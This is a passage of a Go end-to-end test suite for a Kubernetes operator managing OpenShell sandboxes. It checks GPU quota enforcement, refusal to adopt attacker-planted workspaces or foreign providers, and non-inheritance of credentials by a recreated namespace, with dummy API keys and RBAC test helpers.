		expectForbidden(g, erin.Create(ctx, withDevices(ns, "more", sharedAndRDMA), client.DryRunAll),
			openshellv1alpha1.SandboxReasonNamespaceBudgetExceeded, "would have 4 GPUs")
	}).WithContext(ctx).WithTimeout(30 * time.Second).Should(Succeed())

	// The first sandbox's create is done before one is held below (a hold
	// takes the gateway's next CreateSandbox, whichever it is).
	waitPhase(ctx, g, client.ObjectKey{Namespace: ns, Name: "slices"}, openshellv1alpha1.SandboxPhaseReady)

	// Nor by lowering a running sandbox's devices in an edit that cannot be
	// applied (its env names a Secret that does not exist, so it keeps
	// running as created): it is charged what it runs with until then.
	g.Expect(retry.RetryOnConflict(retry.DefaultRetry, func() error {
		cur := &openshellv1alpha1.OpenShellSandbox{}
		if err := erin.Get(ctx, client.ObjectKey{Namespace: ns, Name: "slices"}, cur); err != nil {
			return err
		}
		cur.Spec.Resources.Limits = withDevices(ns, "slices", nil).Spec.Resources.Limits
		cur.Spec.Env = []openshellv1alpha1.SandboxEnvVar{{Name: "TOKEN", ValueFrom: &openshellv1alpha1.SandboxEnvVarSource{
			SecretKeyRef: openshellv1alpha1.SecretKeyReference{Name: "nowhere", Key: "token"}}}}
		return erin.Update(ctx, cur)
	})).To(Succeed())
	g.Eventually(func(g Gomega) {
		cur := sandboxStatus(ctx, g, client.ObjectKey{Namespace: ns, Name: "slices"})
		g.Expect(cur.Status.ObservedGeneration).To(Equal(cur.Generation))
		g.Expect(meta.FindStatusCondition(cur.Status.Conditions, openshellv1alpha1.ConditionAccepted).Reason).To(Equal(openshellv1alpha1.SandboxReasonSecretNotFound))
		g.Expect(cur.Status.SandboxID).NotTo(BeEmpty(), "it keeps running as created")
	}).WithContext(ctx).WithTimeout(30 * time.Second).Should(Succeed())
	expectForbidden(g, erin.Create(ctx, withDevices(ns, "two-more", corev1.ResourceList{"nvidia.com/gpu.shared": resource.MustParse("2")})),
		openshellv1alpha1.SandboxReasonNamespaceBudgetExceeded, "would have 4 GPUs")

	// Without the webhook the reconciler charges the same devices, and
	// charges a sandbox it accepted whose create has not answered yet: an
	// older sandbox, rejected over the ceiling and then edited down while
	// the newer one's create is in flight, is still refused.
	race := tenancyNamespace(ctx, t, "team-n7-race", map[string]string{"team": "a"})
	bind(ctx, t, race, "erin", "edit")
	tn.withoutWebhooks(ctx, t, func() {
		older := withDevices(race, "first", corev1.ResourceList{"nvidia.com/mig-1g.10gb": resource.MustParse("4")})
		g.Expect(erin.Create(ctx, older)).To(Succeed())
		waitPhase(ctx, g, client.ObjectKeyFromObject(older), openshellv1alpha1.SandboxPhaseRejected)
		reached, release := gwc.HoldNext("CreateSandbox")
		defer release()
		// Named to sort after the older one: were both created in the same
		// second, the name would not make the newer one earlier.
		newer := withDevices(race, "second", slices)
		g.Expect(erin.Create(ctx, newer)).To(Succeed())
		select {
		case <-reached:
		case <-ctx.Done():
			t.Fatal("the newer sandbox's create never reached the gateway")
		}
		g.Expect(retry.RetryOnConflict(retry.DefaultRetry, func() error {
			cur := &openshellv1alpha1.OpenShellSandbox{}
			if err := erin.Get(ctx, client.ObjectKeyFromObject(older), cur); err != nil {
				return err
			}
			cur.Spec.Resources.Limits = withDevices(race, "first", sharedAndRDMA).Spec.Resources.Limits
			return erin.Update(ctx, cur)
		})).To(Succeed())
		g.Eventually(func(g Gomega) {
			cur := sandboxStatus(ctx, g, client.ObjectKeyFromObject(older))
			g.Expect(cur.Status.ObservedGeneration).To(Equal(cur.Generation))
			g.Expect(cur.Status.Phase).To(Equal(openshellv1alpha1.SandboxPhaseRejected), "%+v", cur.Status.Conditions)
			acc := meta.FindStatusCondition(cur.Status.Conditions, openshellv1alpha1.ConditionAccepted)
			g.Expect(acc.Reason).To(Equal(openshellv1alpha1.SandboxReasonNamespaceBudgetExceeded))
			g.Expect(acc.Message).To(ContainSubstring("would have 4 GPUs"))
			g.Expect(cur.Status.SandboxID).To(BeEmpty(), "a refused sandbox reached the gateway")
		}).WithContext(ctx).WithTimeout(30 * time.Second).Should(Succeed())
		release()
		waitPhase(ctx, g, client.ObjectKeyFromObject(newer), openshellv1alpha1.SandboxPhaseReady)

		// Once the newer one is gone the older one fits, and it is looked
		// at again without an edit of its own.
		g.Expect(erin.Delete(ctx, newer)).To(Succeed())
		waitPhase(ctx, g, client.ObjectKeyFromObject(older), openshellv1alpha1.SandboxPhaseReady)
	})
}

// workspaceAndProviderConflict injects, through the gateway itself, a
// workspace with a victim namespace's name but another owner, and a
// provider of another owner in a namespace's own workspace: nothing is
// adopted or merged into.
func (tn *tenancySuite) workspaceAndProviderConflict(t *testing.T) {
	g := NewWithT(t)
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	gwc := tn.st.Gateway

	victim := tenancyNamespace(ctx, t, "victim", map[string]string{"team": "a"})
	ws := sandboxspec.WorkspaceName(victim, namespaceUID(ctx, g, victim))
	_, err := gwc.CreateWorkspace(ctx, &openshellv1.CreateWorkspaceRequest{Name: ws,
		Labels: map[string]string{sandboxspec.LabelNamespace: "attacker", sandboxspec.LabelNamespaceUID: "attacker-uid"}})
	g.Expect(err).NotTo(HaveOccurred())
	sb := tn.sandbox(victim, "agent")
	g.Expect(cluster.Client.Create(ctx, sb)).To(Succeed())
	g.Eventually(func(g Gomega) {
		cur := sandboxStatus(ctx, g, client.ObjectKeyFromObject(sb))
		for _, typ := range []string{openshellv1alpha1.ConditionReady, openshellv1alpha1.ConditionSynced} {
			c := meta.FindStatusCondition(cur.Status.Conditions, typ)
			g.Expect(c).NotTo(BeNil(), typ)
			g.Expect(c.Status).To(Equal(metav1.ConditionFalse), typ)
			g.Expect(c.Reason).To(Equal(openshellv1alpha1.ReasonWorkspaceConflict), "%s: %+v", typ, cur.Status.Conditions)
		}
		g.Expect(cur.Status.SandboxID).To(BeEmpty())
		g.Expect(cur.Status.Phase).To(Equal(openshellv1alpha1.SandboxPhaseError), "never created")
	}).WithContext(ctx).WithTimeout(30 * time.Second).Should(Succeed())
	g.Expect(gwc.SandboxNames(ws)).To(BeEmpty(), "nothing created in the foreign workspace")
	// A provider a sandbox there attaches is not pushed into it either.
	victimProvider := anthropicProvider(ctx, g, cluster.Client, victim, map[string]string{"ANTHROPIC_API_KEY": "sk-victim"})
	withProvider := tn.sandbox(victim, "with-provider")
	withProvider.Spec.Providers = []string{"anthropic"}
	g.Expect(cluster.Client.Create(ctx, withProvider)).To(Succeed())
	g.Eventually(func(g Gomega) {
		c := providerReady(ctx, g, victimProvider)
		g.Expect(c.Status).To(Equal(metav1.ConditionFalse))
		g.Expect(c.Reason).To(Equal(openshellv1alpha1.ReasonWorkspaceConflict), "the provider: %s", c.Message)
	}).WithContext(ctx).WithTimeout(30 * time.Second).Should(Succeed())
	g.Expect(gwc.StoredCredentials(ws, "anthropic")).To(BeNil(), "no credentials pushed into the foreign workspace")
	g.Expect(gwc.SandboxNames(ws)).To(BeEmpty(), "nothing created in the foreign workspace")

	// A provider of another owner inside the namespace's own workspace.
	owner := tenancyNamespace(ctx, t, "owner", map[string]string{"team": "a"})
	uid := namespaceUID(ctx, g, owner)
	ows := sandboxspec.WorkspaceName(owner, uid)
	_, err = gwc.CreateWorkspace(ctx, &openshellv1.CreateWorkspaceRequest{Name: ows, Labels: sandboxspec.WorkspaceLabels(owner, uid)})
	g.Expect(err).NotTo(HaveOccurred())
	_, err = gwc.CreateProvider(ctx, &openshellv1.CreateProviderRequest{Workspace: ows, Provider: &datamodelv1.Provider{
		Metadata: &datamodelv1.ObjectMeta{Name: "anthropic", Labels: map[string]string{sandboxspec.LabelOwnerUID: "someone-else"}},
		Type:     "anthropic", Credentials: map[string]string{"ANTHROPIC_API_KEY": "sk-theirs"}}})
	g.Expect(err).NotTo(HaveOccurred())
	prov := anthropicProvider(ctx, g, cluster.Client, owner, map[string]string{"ANTHROPIC_API_KEY": "sk-mine", "EXTRA": "x"})
	user := tn.sandbox(owner, "agent")
	user.Spec.Providers = []string{"anthropic"}
	g.Expect(cluster.Client.Create(ctx, user)).To(Succeed())
	g.Eventually(func(g Gomega) {
		c := providerReady(ctx, g, prov)
		g.Expect(c.Reason).To(Equal(openshellv1alpha1.ReasonProviderConflict), c.Message)
	}).WithContext(ctx).WithTimeout(30 * time.Second).Should(Succeed())
	g.Expect(gwc.StoredCredentials(ows, "anthropic")).To(Equal(map[string]string{"ANTHROPIC_API_KEY": "sk-theirs"}), "never merged into")
	// A reconcile of the sandbox after the conflict (a spec change it must
	// act on) still holds it back: the provider's entry for the gateway is
	// the provider controller's intent, not a push.
	g.Expect(retry.RetryOnConflict(retry.DefaultRetry, func() error {
		cur := &openshellv1alpha1.OpenShellSandbox{}
		if err := cluster.Client.Get(ctx, client.ObjectKeyFromObject(user), cur); err != nil {
			return err
		}
		cur.Spec.PodLabels = map[string]openshellv1alpha1.PodLabelValue{"acted-on": "after-the-conflict"}
		return cluster.Client.Update(ctx, cur)
	})).To(Succeed())
	var cur *openshellv1alpha1.OpenShellSandbox
	g.Eventually(func(g Gomega) {
		cur = sandboxStatus(ctx, g, client.ObjectKeyFromObject(user))
		g.Expect(cur.Status.ObservedGeneration).To(Equal(cur.Generation))
	}).WithContext(ctx).WithTimeout(30 * time.Second).Should(Succeed())
	g.Expect(cur.Status.SandboxID).To(BeEmpty(), "a sandbox never runs with a provider it does not own")
	pr := meta.FindStatusCondition(cur.Status.Conditions, openshellv1alpha1.SandboxConditionProvidersResolved)
	g.Expect(pr).NotTo(BeNil())
	g.Expect(pr.Reason).To(Equal(openshellv1alpha1.SandboxReasonProviderSyncing))
	g.Expect(pr.Message).To(ContainSubstring("Ready condition"), "points at why")
	// Nor is it attached to a sandbox that already runs: the gateway would
	// resolve the name to the other owner's provider.
	runner := tn.sandbox(owner, "runner")
	g.Expect(cluster.Client.Create(ctx, runner)).To(Succeed())
	g.Eventually(func(g Gomega) {
		g.Expect(sandboxStatus(ctx, g, client.ObjectKeyFromObject(runner)).Status.SandboxID).NotTo(BeEmpty())
	}).WithContext(ctx).WithTimeout(30 * time.Second).Should(Succeed())
	g.Expect(retry.RetryOnConflict(retry.DefaultRetry, func() error {
		cur := &openshellv1alpha1.OpenShellSandbox{}
		if err := cluster.Client.Get(ctx, client.ObjectKeyFromObject(runner), cur); err != nil {
			return err
		}
		cur.Spec.Providers = []string{"anthropic"}
		return cluster.Client.Update(ctx, cur)
	})).To(Succeed())
	g.Eventually(func(g Gomega) {
		cur = sandboxStatus(ctx, g, client.ObjectKeyFromObject(runner))
		g.Expect(cur.Status.ObservedGeneration).To(Equal(cur.Generation))
	}).WithContext(ctx).WithTimeout(30 * time.Second).Should(Succeed())
	g.Expect(cur.Status.AttachedProviders).To(BeEmpty())
	atGateway, err := gwc.GetSandbox(ctx, &openshellv1.GetSandboxRequest{Name: sandboxspec.SandboxName(owner, "runner"), Workspace: ows})
	g.Expect(err).NotTo(HaveOccurred())
	g.Expect(atGateway.Sandbox.Spec.GetProviders()).NotTo(ContainElement("anthropic"), "a running sandbox never gets a provider it does not own")
	pr = meta.FindStatusCondition(cur.Status.Conditions, openshellv1alpha1.SandboxConditionProvidersResolved)
	g.Expect(pr).NotTo(BeNil())
	g.Expect(pr.Reason).To(Equal(openshellv1alpha1.SandboxReasonProviderSyncing))

	// A gateway sandbox of the derived name that another client created in
	// the namespace's workspace: never adopted, and deleting the
	// OpenShellSandbox leaves it alone.
	squatted := sandboxspec.SandboxName(owner, "squatted")
	gwc.SeedSandbox(ows, squatted, map[string]string{sandboxspec.LabelOwnerUID: "someone-else"})
	sq := tn.sandbox(owner, "squatted")
	g.Expect(cluster.Client.Create(ctx, sq)).To(Succeed())
	g.Eventually(func(g Gomega) {
		cur := sandboxStatus(ctx, g, client.ObjectKeyFromObject(sq))
		c := meta.FindStatusCondition(cur.Status.Conditions, openshellv1alpha1.ConditionSynced)
		g.Expect(c).NotTo(BeNil())
		g.Expect(c.Reason).To(Equal(openshellv1alpha1.SandboxReasonNameConflict), "%+v", cur.Status.Conditions)
		g.Expect(cur.Finalizers).NotTo(BeEmpty())
	}).WithContext(ctx).WithTimeout(30 * time.Second).Should(Succeed())
	g.Expect(cluster.Client.Delete(ctx, sq)).To(Succeed())
	g.Eventually(func() bool {
		return apierrors.IsNotFound(cluster.Client.Get(ctx, client.ObjectKeyFromObject(sq), &openshellv1alpha1.OpenShellSandbox{}))
	}).WithContext(ctx).WithTimeout(30 * time.Second).Should(BeTrue())
	g.Expect(gwc.SandboxNames(ows)).To(ContainElement(squatted), "deleting ours never deletes theirs")
}

// recreatedNamespace: credentials left at the gateway by a deleted
// namespace are not inherited by a new namespace of the same name, whoever
// creates it.
func (tn *tenancySuite) recreatedNamespace(t *testing.T) {
	g := NewWithT(t)
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()
	c := cluster.Client
	name := fmt.Sprintf("reused-%d", time.Now().UnixNano()%1_000_000)
	ns1 := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: name, Labels: map[string]string{tenancyLabel: "true", "team": "a"}}}
	g.Expect(c.Create(ctx, ns1)).To(Succeed())
	t.Cleanup(func() {
		_ = c.Delete(context.Background(), &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: name}})
	})
	first := ns1.UID
	g.Expect(c.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "creds", Namespace: name},
		StringData: map[string]string{"ANTHROPIC_API_KEY": "sk-first-owner", "OLD_ONLY": "leftover"}})).To(Succeed())
	prov := &openshellv1alpha1.OpenShellProvider{ObjectMeta: metav1.ObjectMeta{Name: "anthropic", Namespace: name},
		Spec: openshellv1alpha1.OpenShellProviderSpec{Type: "anthropic", CredentialsSecretRef: &openshellv1alpha1.ProviderCredentialsReference{Name: "creds"}}}
	g.Expect(c.Create(ctx, prov)).To(Succeed())
	sb := tn.sandbox(name, "agent")
	sb.Spec.Providers = []string{"anthropic"}
	g.Expect(c.Create(ctx, sb)).To(Succeed())
	waitPhase(ctx, g, client.ObjectKeyFromObject(sb), openshellv1alpha1.SandboxPhaseReady)
	oldWS := sandboxspec.WorkspaceName(name, first)
	g.Expect(tn.st.Gateway.StoredCredentials(oldWS, "anthropic")).To(HaveKey("OLD_ONLY"))

	// Deleting the namespace cleans up at the gateway ...
	g.Expect(c.Delete(ctx, &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: name}})).To(Succeed())
	g.Eventually(func() bool {
		return apierrors.IsNotFound(c.Get(ctx, client.ObjectKey{Name: name}, &corev1.Namespace{}))
	}).WithContext(ctx).WithTimeout(2 * time.Minute).Should(BeTrue())
	g.Expect(tn.st.Gateway.StoredCredentials(oldWS, "anthropic")).To(BeNil(), "the provider finalizer deleted it at the gateway")
	// ... unless it could not run (the gateway was down, the finalizer was
	// removed by hand, the operator was uninstalled first): leave such a
	// leftover in the old workspace, as the operator had created it.
	_, err := tn.st.Gateway.CreateProvider(ctx, &openshellv1.CreateProviderRequest{Workspace: oldWS, Provider: &datamodelv1.Provider{
		Metadata: &datamodelv1.ObjectMeta{Name: "anthropic", Labels: sandboxspec.WorkspaceLabels(name, first)},
		Type:     "anthropic", Credentials: map[string]string{"ANTHROPIC_API_KEY": "sk-first-owner", "OLD_ONLY": "leftover"}}})
	g.Expect(err).NotTo(HaveOccurred())

	// The same name, now created by a self-provisioner ("sam", who may
	// create namespaces and, as a project request does, becomes their admin).
	selfProvisioner(ctx, t, "sam")
	sam := as(t, "sam")
	ns2 := &corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: name, Labels: map[string]string{tenancyLabel: "true", "team": "a"}}}
	g.Eventually(func() error { return sam.Create(ctx, ns2) }).WithContext(ctx).WithTimeout(time.Minute).Should(Succeed())
	second := ns2.UID
	g.Expect(second).NotTo(Equal(first))
	bind(ctx, t, name, "sam", "admin")
	g.Expect(sam.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "creds", Namespace: name},
		StringData: map[string]string{"ANTHROPIC_API_KEY": "sk-second-owner"}})).To(Succeed())
	prov2 := prov.DeepCopy()
	prov2.ResourceVersion, prov2.UID, prov2.Finalizers = "", "", nil
	g.Expect(sam.Create(ctx, prov2)).To(Succeed())
	sb2 := tn.sandbox(name, "agent")
	sb2.Spec.Providers = []string{"anthropic"}
	g.Expect(sam.Create(ctx, sb2)).To(Succeed())
	waitPhase(ctx, g, client.ObjectKeyFromObject(sb2), openshellv1alpha1.SandboxPhaseReady)
	newWS := sandboxspec.WorkspaceName(name, second)
	g.Expect(newWS).NotTo(Equal(oldWS))
	g.Expect(tn.st.Gateway.StoredCredentials(newWS, "anthropic")).To(Equal(map[string]string{"ANTHROPIC_API_KEY": "sk-second-owner"}),
		"a fresh provider: nothing of the old namespace's credentials")
	g.Expect(sandboxStatus(ctx, g, client.ObjectKeyFromObject(sb2)).Status.Workspace).To(Equal(newWS))
	g.Expect(tn.st.Gateway.StoredCredentials(oldWS, "anthropic")).To(HaveKey("OLD_ONLY"), "the leftover is neither reused nor touched")
}

// sandbox is a minimal sandbox on the platform gateway.
func (tn *tenancySuite) sandbox(ns, name string) *openshellv1alpha1.OpenShellSandbox {
	return sandboxOn(ns, name, tn.st.GatewayObj)
}

// withoutWebhooks runs fn with this suite's webhook configurations
// removed: the validating one and the finalizer's mutating one, so the
// reconciler's own checks and its finalizer fallback are what runs.
func (tn *tenancySuite) withoutWebhooks(ctx context.Context, t *testing.T, fn func()) {
	g := NewWithT(t)
	vwc := &admissionregistrationv1.ValidatingWebhookConfiguration{}
	mwc := &admissionregistrationv1.MutatingWebhookConfiguration{}
	for _, o := range []client.Object{vwc, mwc} {
		g.Expect(cluster.Client.Get(ctx, client.ObjectKey{Name: tn.webhookName}, o)).To(Succeed())
		g.Expect(cluster.Client.Delete(ctx, o)).To(Succeed())
	}
	defer func() {
		for _, o := range []client.Object{vwc, mwc} {
			o.SetResourceVersion("")
			o.SetUID("")
			g.Expect(cluster.Client.Create(ctx, o)).To(Succeed())
		}
	}()
	fn()
}

// tenancyNamespace creates a namespace this suite's webhooks apply to.
func tenancyNamespace(ctx context.Context, t *testing.T, prefix string, labels map[string]string) string {
	t.Helper()
	name := framework.CreateNamespace(ctx, t, cluster.Client, prefix)
	relabel(ctx, NewWithT(t), name, labels)
	return name
}

// relabel sets a namespace's labels (besides the suite's own), as a cluster admin.
func relabel(ctx context.Context, g Gomega, name string, labels map[string]string) {
	all := map[string]string{tenancyLabel: "true", corev1.LabelMetadataName: name}
	for k, v := range labels {
		all[k] = v
	}
	setLabels(ctx, g, name, all)
}

// setLabels replaces a namespace's labels, as a cluster admin.
func setLabels(ctx context.Context, g Gomega, name string, labels map[string]string) {
	g.ExpectWithOffset(1, retry.RetryOnConflict(retry.DefaultRetry, func() error {
		ns := &corev1.Namespace{}
		if err := cluster.Client.Get(ctx, client.ObjectKey{Name: name}, ns); err != nil {
			return err
		}
		ns.Labels = labels
		return cluster.Client.Update(ctx, ns)
	})).To(Succeed())
}

func namespaceUID(ctx context.Context, g Gomega, name string) types.UID {
	ns := &corev1.Namespace{}
	g.Expect(cluster.Client.Get(ctx, client.ObjectKey{Name: name}, ns)).To(Succeed())
	return ns.UID
}

// bind gives user a ClusterRole in ns, as `oc adm policy add-role-to-user` does.
func bind(ctx context.Context, t *testing.T, ns, user, role string) {
	t.Helper()
	rb := &rbacv1.RoleBinding{ObjectMeta: metav1.ObjectMeta{Name: user + "-" + role, Namespace: ns},
		Subjects: []rbacv1.Subject{{Kind: rbacv1.UserKind, APIGroup: rbacv1.GroupName, Name: user}},
		RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: role}}
	if err := cluster.Client.Create(ctx, rb); err != nil {
		t.Fatalf("bind %s to %s in %s: %v", user, role, ns, err)
	}
	// RBAC is enforced from the informer cache: wait until it answers yes.
	NewWithT(t).Eventually(func(g Gomega) {
		g.Expect(canI(ctx, g, user, ns, "get", "openshellsandboxes")).To(BeTrue())
	}).WithContext(ctx).WithTimeout(30 * time.Second).Should(Succeed())
}

// selfProvisioner lets user create namespaces, as OpenShift's
// self-provisioner role lets it request projects.
func selfProvisioner(ctx context.Context, t *testing.T, user string) {
	t.Helper()
	name := "e2e-self-provisioner-" + user
	for _, o := range []client.Object{
		&rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: name},
			Rules: []rbacv1.PolicyRule{{APIGroups: []string{""}, Resources: []string{"namespaces"}, Verbs: []string{"create"}}}},
		&rbacv1.ClusterRoleBinding{ObjectMeta: metav1.ObjectMeta{Name: name},
			Subjects: []rbacv1.Subject{{Kind: rbacv1.UserKind, APIGroup: rbacv1.GroupName, Name: user}},
			RoleRef:  rbacv1.RoleRef{APIGroup: rbacv1.GroupName, Kind: "ClusterRole", Name: name}},
	} {
		if err := cluster.Client.Create(ctx, o); err != nil && !apierrors.IsAlreadyExists(err) {
			t.Fatal(err)
		}
	}
}

// as is a client that impersonates an authenticated user.
func as(t *testing.T, user string) client.Client {
	t.Helper()
	return impersonating(t, user, "system:authenticated")
}

// impersonating is a client that impersonates user with exactly groups.
func impersonating(t *testing.T, user string, groups ...string) client.Client {
	t.Helper()
	cfg := rest.CopyConfig(cluster.Config)
	cfg.Impersonate = rest.ImpersonationConfig{UserName: user, Groups: groups}
	c, err := client.New(cfg, client.Options{Scheme: cluster.Client.Scheme()})
	if err != nil {
		t.Fatal(err)
	}
	return c
}

func canI(ctx context.Context, g Gomega, user, ns, verb, resource string) bool {
	group := "openshell.ai"
	if resource == "secrets" {
		group = ""
	}
	sar := &authorizationv1.SubjectAccessReview{Spec: authorizationv1.SubjectAccessReviewSpec{User: user, Groups: []string{"system:authenticated"},
		ResourceAttributes: &authorizationv1.ResourceAttributes{Namespace: ns, Verb: verb, Group: group, Resource: resource}}}
	g.Expect(cluster.Client.Create(ctx, sar)).To(Succeed())
	return sar.Status.Allowed
}

// expectForbidden asserts a 403 whose message carries the reason and text.
func expectForbidden(g Gomega, err error, reason, text string) {
	g.ExpectWithOffset(1, apierrors.IsForbidden(err)).To(BeTrue(), "want Forbidden, got %v", err)
	g.ExpectWithOffset(1, err.Error()).To(And(ContainSubstring(reason), ContainSubstring(text)))
}

func waitPhase(ctx context.Context, g Gomega, key client.ObjectKey, phase openshellv1alpha1.SandboxPhase) {
	g.EventuallyWithOffset(1, func(g Gomega) {
		cur := sandboxStatus(ctx, g, key)
		g.Expect(cur.Status.Phase).To(Equal(phase), "%+v", cur.Status.Conditions)
	}).WithContext(ctx).WithTimeout(60*time.Second).WithPolling(250*time.Millisecond).Should(Succeed(), cluster.CheckProcessesMessage)
}

// installOLMAggregatedRoles creates, for each of our CRDs, the ClusterRoles
// OLM v0 creates for an owned CRD (operatorgroup.go,
// ensureClusterRolesForCSV): <plural>.<group>-<version>-{admin,edit,view}
// aggregated into the built-in roles with verbs * / create,update,patch,
// delete / get,list,watch on the plural resource, plus a crd-view role; and
// the tenant ClusterRoles the bundle ships (config/tenancy).
func installOLMAggregatedRoles(ctx context.Context, t *testing.T) {
	t.Helper()
	c := cluster.Client
	var roles []*rbacv1.ClusterRole
	crdDir := framework.OwnCRDDir()
	entries, err := os.ReadDir(crdDir)
	if err != nil {
		t.Fatal(err)
	}
	for _, e := range entries {
		crd, err := framework.LoadCRD(filepath.Join(crdDir, e.Name()))
		if err != nil {
			t.Fatal(err)
		}
		for _, v := range crd.Spec.Versions {
			prefix := crd.Name + "-" + v.Name + "-"
			for suffix, verbs := range map[string][]string{"admin": {"*"}, "edit": {"create", "update", "patch", "delete"}, "view": {"get", "list", "watch"}} {
				roles = append(roles, &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: prefix + suffix,
					Labels: map[string]string{"rbac.authorization.k8s.io/aggregate-to-" + suffix: "true"}},
					Rules: []rbacv1.PolicyRule{{Verbs: verbs, APIGroups: []string{crd.Spec.Group}, Resources: []string{crd.Spec.Names.Plural}}}})
			}
			roles = append(roles, &rbacv1.ClusterRole{ObjectMeta: metav1.ObjectMeta{Name: prefix + "crd-view",
				Labels: map[string]string{"rbac.authorization.k8s.io/aggregate-to-view": "true"}},
				Rules: []rbacv1.PolicyRule{{Verbs: []string{"get"}, APIGroups: []string{"apiextensions.k8s.io"},
					Resources: []string{"customresourcedefinitions"}, ResourceNames: []string{crd.Name}}}})
		}
	}
	tenancyDir := filepath.Join(framework.RepoRoot(), "config", "tenancy")
	for _, f := range []string{"openshell_tenant_admin_role.yaml", "openshell_sandbox_user_role.yaml", "openshell_view_role.yaml"} {
		raw, err := os.ReadFile(filepath.Join(tenancyDir, f))
		if err != nil {
			t.Fatal(err)
		}
		r := &rbacv1.ClusterRole{}
		if err := yaml.UnmarshalStrict(raw, r); err != nil {
			t.Fatalf("%s: %v", f, err)
		}
		roles = append(roles, r)
	}
	for _, r := range roles {
		err := c.Create(ctx, r)
		if apierrors.IsAlreadyExists(err) {
			// Installed by an earlier test: the same rules, applied again.
			cur := &rbacv1.ClusterRole{}
			if err = c.Get(ctx, client.ObjectKeyFromObject(r), cur); err == nil {
				cur.Rules, cur.Labels = r.Rules, r.Labels
				err = c.Update(ctx, cur)
			}
		}
		if err != nil {
			t.Fatalf("create ClusterRole %s: %v", r.Name, err)
		}
	}
}

// webhookServing issues a serving certificate for 127.0.0.1 and returns
// its directory, the CA and a free port.
func webhookServing(t *testing.T) (string, []byte, int) {
	t.Helper()
	s, err := framework.ServeWebhooksOnLoopback(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	return s.CertDir, s.CAPEM, s.Port
}

// webhooksFor registers the operator's webhooks under name at the
// loopback server, for the namespaces labelled with labels, until the
// test ends.
func webhooksFor(ctx context.Context, t *testing.T, name string, caPEM []byte, port int, labels map[string]string) {
	t.Helper()
	objs, err := framework.InstallWebhooks(ctx, cluster.Client, name, framework.WebhookServing{CAPEM: caPEM, Port: port},
		&metav1.LabelSelector{MatchLabels: labels})
	if err != nil {
		t.Fatal(err)
	}
	for _, o := range objs {
		t.Cleanup(func() { _ = cluster.Client.Delete(context.Background(), o) })
	}
}

// installWebhooks registers the operator's webhooks (config/webhook: the
// validating ones and the finalizer's mutating one) at the loopback server,
// for this suite's namespaces only.
func installWebhooks(ctx context.Context, t *testing.T, caPEM []byte, port int) string {
	t.Helper()
	const name = "openshell-e2e-tenancy"
	webhooksFor(ctx, t, name, caPEM, port, map[string]string{tenancyLabel: "true"})
	// Wait until the API server calls the webhook: an editor's allowlist
	// create in a suite namespace is refused only by it.
	probe := tenancyNamespace(ctx, t, "probe", nil)
	bind(ctx, t, probe, "webhook-probe", "edit")
	NewWithT(t).Eventually(func() bool {
		err := as(t, "webhook-probe").Create(ctx, &openshellv1alpha1.OpenShellImagePolicy{ObjectMeta: metav1.ObjectMeta{GenerateName: "probe-", Namespace: probe},
			Spec: openshellv1alpha1.OpenShellImagePolicySpec{AllowedMirrors: []string{"registry.example.com/x"}}})
		return apierrors.IsForbidden(err)
	}).WithContext(ctx).WithTimeout(30 * time.Second).Should(BeTrue())
	return name
}

// anthropicProvider creates, as c, Secret creds holding data and the
// OpenShellProvider anthropic that reads it, in ns.
func anthropicProvider(ctx context.Context, g Gomega, c client.Client, ns string, data map[string]string) *openshellv1alpha1.OpenShellProvider {
	g.ExpectWithOffset(1, c.Create(ctx, &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "creds", Namespace: ns}, StringData: data})).To(Succeed())
	p := &openshellv1alpha1.OpenShellProvider{ObjectMeta: metav1.ObjectMeta{Name: "anthropic", Namespace: ns},
		Spec: openshellv1alpha1.OpenShellProviderSpec{Type: "anthropic", CredentialsSecretRef: &openshellv1alpha1.ProviderCredentialsReference{Name: "creds"}}}
	g.ExpectWithOffset(1, c.Create(ctx, p)).To(Succeed())
	return p
}

// providerReady reads a provider's Ready condition, which must be there.
func providerReady(ctx context.Context, g Gomega, p *openshellv1alpha1.OpenShellProvider) *metav1.Condition {
	cur := &openshellv1alpha1.OpenShellProvider{}
	g.ExpectWithOffset(1, cluster.Client.Get(ctx, client.ObjectKeyFromObject(p), cur)).To(Succeed())
	cond := meta.FindStatusCondition(cur.Status.Conditions, openshellv1alpha1.ConditionReady)
	g.ExpectWithOffset(1, cond).NotTo(BeNil(), "no Ready condition on provider %s", p.Name)
	return cond
}
